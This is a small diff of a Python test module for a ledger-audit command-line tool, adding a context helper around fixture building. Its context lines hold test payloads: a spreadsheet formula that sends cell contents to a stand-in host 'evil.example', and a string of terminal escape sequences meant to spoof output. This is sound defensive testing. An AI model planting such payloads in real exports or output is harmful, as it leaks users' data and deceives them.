@@ -19,7 +19,12 @@ from click.testing import CliRunner
 
 from cli.main import cli
 from ledger.audit.text import display_width
-from tests.ledger.audit.audit_factory import build_store, ingredient, provenance
+from tests.ledger.audit.audit_factory import (
+    before_text_rules,
+    build_store,
+    ingredient,
+    provenance,
+)
 
 FORMULA = '=HYPERLINK("http://evil.example/?leak="&A1,"click me")'
 ESCAPES = "\x1b[2J\x1b]0;pwned\x07Mallory\rEve"
@@ -69,7 +74,8 @@ def ledger(tmp_path_factory: pytest.TempPathFactory) -> str:
             ],
         ),
     ]
-    build_store(path, items).close()
+    with before_text_rules():  # names with ESC, BEL and CR are refused since issue 10 §2
+        build_store(path, items).close()
     return str(path)
 
 
